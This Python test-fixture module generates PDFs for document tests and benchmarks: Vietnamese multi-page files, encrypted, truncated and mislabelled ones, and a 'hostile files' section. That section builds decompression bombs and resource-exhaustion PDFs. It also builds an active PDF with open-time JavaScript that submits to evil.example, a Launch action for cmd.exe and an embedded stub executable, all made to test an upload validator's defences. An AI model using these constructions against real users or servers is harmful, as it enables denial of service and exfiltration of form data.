"""Real PDFs for the document tests and benchmarks: Vietnamese text on many pages (fpdf2 with
DejaVu), and the bad ones a secretary may upload by mistake."""

from __future__ import annotations

import io
import os
import unicodedata
import zipfile

from fpdf import FPDF

FONT = "/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf"


def page_text(i: int) -> str:
    return unicodedata.normalize(
        "NFC", f"Trang {i}: Báo cáo tình hình kinh tế xã hội tỉnh Hòa Bình Xanh"
    )


def vietnamese_pdf(
    pages: int = 5,
    *,
    title: str = "Tờ trình",
    image_kb: int = 0,
    landscape_every: int = 0,
    rotate_every: int = 0,
) -> bytes:
    """A PDF whose page i (1-based) carries `page_text(i)` plus a paragraph. `image_kb` adds an
    incompressible image of about that size to every page (to make big files)."""
    pdf = FPDF(unit="pt", format="A4")
    pdf.set_compression(True)
    pdf.add_font("DejaVu", fname=FONT)
    side = int((image_kb * 1024 / 3) ** 0.5)
    for i in range(1, pages + 1):
        orientation = "L" if landscape_every and i % landscape_every == 0 else "P"
        pdf.add_page(orientation=orientation)
        pdf.set_font("DejaVu", size=16)
        pdf.cell(0, 24, unicodedata.normalize("NFC", title), new_x="LMARGIN", new_y="NEXT")
        pdf.set_font("DejaVu", size=12)
        pdf.cell(0, 18, page_text(i), new_x="LMARGIN", new_y="NEXT")
        pdf.multi_cell(
            0,
            16,
            unicodedata.normalize(
                "NFC",
                "Ủy ban nhân dân tỉnh đề nghị các sở, ngành, huyện, thành phố tập trung chỉ đạo "
                "thực hiện quyết liệt các nhiệm vụ, giải pháp đã đề ra. " * 3,
            ),
        )
        if image_kb:
            from PIL import Image

            # A different (incompressible) image on every page: fpdf2 embeds identical ones once.
            img = Image.frombytes("RGB", (side, side), os.urandom(side * side * 3))
            pdf.image(img, x=40, y=300, w=200)
    data = bytes(pdf.output())
    if rotate_every:
        from pypdf import PdfReader, PdfWriter

        r = PdfReader(io.BytesIO(data))
        w = PdfWriter()
        for i, p in enumerate(r.pages, start=1):
            if i % rotate_every == 0:
                p.rotate(90)
            w.add_page(p)
        buf = io.BytesIO()
        w.write(buf)
        data = buf.getvalue()
    return data


def xref_stream_pdf(pages: int = 3) -> bytes:
    """The same content re-written with a cross-reference STREAM and object streams (pyHanko),
    as Word and modern producers write them."""
    from pyhanko.pdf_utils.reader import PdfFileReader
    from pyhanko.pdf_utils.writer import copy_into_new_writer

    r = PdfFileReader(io.BytesIO(vietnamese_pdf(pages)))
    w = copy_into_new_writer(r)
    w.stream_xrefs = True
    buf = io.BytesIO()
    w.write(buf)
    return buf.getvalue()


def encrypted_pdf(pages: int = 2, password: str = "matkhau") -> bytes:
    from pypdf import PdfReader, PdfWriter

    w = PdfWriter(clone_from=PdfReader(io.BytesIO(vietnamese_pdf(pages))))
    w.encrypt(user_password=password, owner_password=password + "x", algorithm="AES-128")
    buf = io.BytesIO()
    w.write(buf)
    return buf.getvalue()


def docx_bytes() -> bytes:
    """A minimal .docx (a ZIP with Word's parts): what "renamed to .pdf" looks like."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        z.writestr("word/document.xml", '<?xml version="1.0"?><w:document/>')
    return buf.getvalue()


def truncated_pdf(pages: int = 5) -> bytes:
    data = vietnamese_pdf(pages)
    return data[: len(data) * 6 // 10]


# --- hostile files (issue 11): small to send, costly to open -----------------------------------


def _with_writer(pages: int = 1):
    from pypdf import PdfReader, PdfWriter

    return PdfWriter(clone_from=PdfReader(io.BytesIO(vietnamese_pdf(pages))))


def _flate_stream(chunks: int, chunk: bytes) -> object:
    """A FlateDecode stream of `chunk` repeated `chunks` times, compressed as it is made."""
    import zlib

    from pypdf.generic import NameObject, StreamObject

    z = zlib.compressobj(6)
    parts = [z.compress(chunk) for _ in range(chunks)]
    parts.append(z.flush())
    s = StreamObject()
    s[NameObject("/Filter")] = NameObject("/FlateDecode")
    s._data = b"".join(parts)
    return s


def _written(writer) -> bytes:
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def bomb_pdf(inflated_mb: int = 1024, parts: int = 16) -> bytes:
    """A decompression bomb: each of `parts` pages draws one more content stream of NUL bytes
    (PDF white space: valid, draws nothing), `inflated_mb` MB in all, about 1 MB compressed per
    GB. Each part stays under pypdf's own per-stream limit, as a crafted file would."""
    from pypdf.generic import ArrayObject, NameObject, StreamObject

    w = _with_writer(parts)
    one = _flate_stream(inflated_mb // parts, bytes(1 << 20))
    for page in w.pages:
        s = StreamObject()
        s[NameObject("/Filter")] = NameObject("/FlateDecode")
        s._data = one._data  # type: ignore[attr-defined]
        page[NameObject("/Contents")] = ArrayObject([page.raw_get("/Contents"), w._add_object(s)])
    return _written(w)


def shared_stream_pdf(pages: int = 200, stream_mb: int = 70) -> bytes:
    """`pages` pages whose content is ONE shared stream of `stream_mb` MB (path operators
    drawing nothing visible): ~200 KB on disk, pages × stream_mb to draw."""
    from pypdf.generic import NameObject

    w = _with_writer(1)
    ops = b"0 0 m 0 0 l n\n" * 4096
    shared = w._add_object(_flate_stream(stream_mb * (1 << 20) // len(ops), ops))
    w.pages[0][NameObject("/Contents")] = shared
    for _ in range(pages - 1):
        p = w.add_blank_page(595, 842)
        p[NameObject("/Contents")] = shared
    return _written(w)


def active_pdf(pages: int = 2) -> bytes:
    """A PDF that runs JavaScript when opened (OpenAction and a document-level script), has a
    link that launches a program and an embedded executable."""
    from pypdf.annotations import Link
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

    w = _with_writer(pages)
    w._root_object[NameObject("/OpenAction")] = w._add_object(
        DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("app.alert('Mở tệp');"),
            }
        )
    )
    script = w._add_object(
        DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("this.submitForm('http://evil.example/');"),
            }
        )
    )
    w.add_attachment("cap-nhat.exe", b"MZ\x90\x00" + b"\x00" * 512)
    names = w._root_object["/Names"]
    names[NameObject("/JavaScript")] = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("goi-di"), script])}
    )
    link = Link(rect=(50, 50, 200, 80), url="http://127.0.0.1/")
    link[NameObject("/A")] = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
    )
    w.add_annotation(page_number=0, annotation=link)
    return _written(w)


def _raw_pdf(objects: list[bytes]) -> bytes:
    """A PDF of the given object bodies (object i + 1 is objects[i]; 1 is the catalog), written
    by hand: tens of thousands of objects in a fraction of a second."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for i, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f\r\n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n\r\n" % off for off in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def signature_fields_pdf(fields: int = 60_000) -> bytes:
    """A one-page PDF whose form has `fields` signature fields (widgets with a signature value
    each): a few MB that a validator must walk field by field."""
    first = 5  # object number of the first field
    refs = b" ".join(b"%d 0 R" % (first + i) for i in range(fields))
    content = b"BT /F1 12 Tf 72 760 Td (Chu ky so) Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [" + refs + b"] /SigFlags 3 >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
        b" /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"
        b" /Annots [" + refs + b"] >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
    ]
    sig = (
        b"/V << /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached"
        b" /ByteRange [0 10 20 10] /Contents <3082000130> >>"
    )
    for i in range(fields):
        objects.append(
            b"<< /FT /Sig /T (ChuKy%d) /Type /Annot /Subtype /Widget /Rect [0 0 0 0] /P 3 0 R " % i
            + sig
            + b" >>"
        )
    return _raw_pdf(objects)
